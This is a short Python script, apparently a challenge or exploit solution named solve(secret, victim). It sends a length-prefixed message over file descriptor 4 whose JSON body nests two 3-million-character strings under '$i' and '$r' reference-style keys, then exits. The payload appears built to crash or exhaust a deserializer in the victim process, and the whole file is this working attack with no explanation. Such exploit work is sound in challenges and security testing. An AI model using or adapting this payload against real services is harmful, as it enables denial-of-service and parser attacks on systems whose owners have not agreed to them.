import os, struct


def send(text, fd=4):
    os.write(fd, struct.pack("<I", len(text)) + text)


def solve(secret, victim):
    big = b'{"$i":"' + b"f" * 3_000_000 + b'"}'
    send(b'{"ok":[{"$r":[' + big + b"," + big + b']}],"ns":1}')
    os._exit(0)
